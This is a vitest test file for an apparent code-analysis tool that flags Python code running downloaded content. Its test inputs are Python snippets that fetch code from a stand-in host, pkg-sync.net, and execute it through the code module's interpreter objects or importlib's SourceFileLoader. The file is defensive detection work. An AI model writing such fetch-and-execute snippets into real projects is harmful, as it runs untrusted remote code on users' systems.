import { describe, expect, it } from 'vitest';
import { py } from './support.js';

/** Code run through the `code` module's interpreter objects and importlib's file loaders. */
describe('python execute: interpreter objects and file loaders', () => {
  it.each([
    [
      'InteractiveInterpreter.runsource of a fetched body',
      'import code, urllib.request\nbody = urllib.request.urlopen("https://pkg-sync.net/b.py").read().decode()\ncode.InteractiveInterpreter({}).runsource(body, "<b>", "exec")\n',
      'code.InteractiveInterpreter',
    ],
    [
      'InteractiveConsole.push of each fetched line (imported by name)',
      'from code import InteractiveConsole\nimport requests\nc = InteractiveConsole()\nfor line in requests.get("https://pkg-sync.net/l.py").text.splitlines():\n    c.push(line)\n',
      'code.InteractiveConsole',
    ],
    [
      'SourceFileLoader.load_module of a downloaded file',
      'import importlib.machinery, urllib.request\nurllib.request.urlretrieve("https://pkg-sync.net/r.py", "/tmp/r.py")\nimportlib.machinery.SourceFileLoader("r", "/tmp/r.py").load_module()\n',
      'importlib loader',
    ],
  ])('%s', async (_name, code, via) => {
    const { of } = await py(code);
    const run = of('execute').find((b) => b.via === via && b.code.taints.includes('download'));
    expect(run).toBeDefined();
    expect(run!.endpoint?.host).toBe('pkg-sync.net');
  });

  it('a loader of a file of the project, and an interpreter fed literal text, run nothing downloaded', async () => {
    const { of } = await py(
      'import code, importlib.machinery\nimportlib.machinery.SourceFileLoader("cfg", "conf/local.py").load_module()\ncode.InteractiveInterpreter().runsource("x = 1")\n',
    );
    expect(of('execute').filter((b) => b.code.taints.includes('download'))).toEqual([]);
  });
});
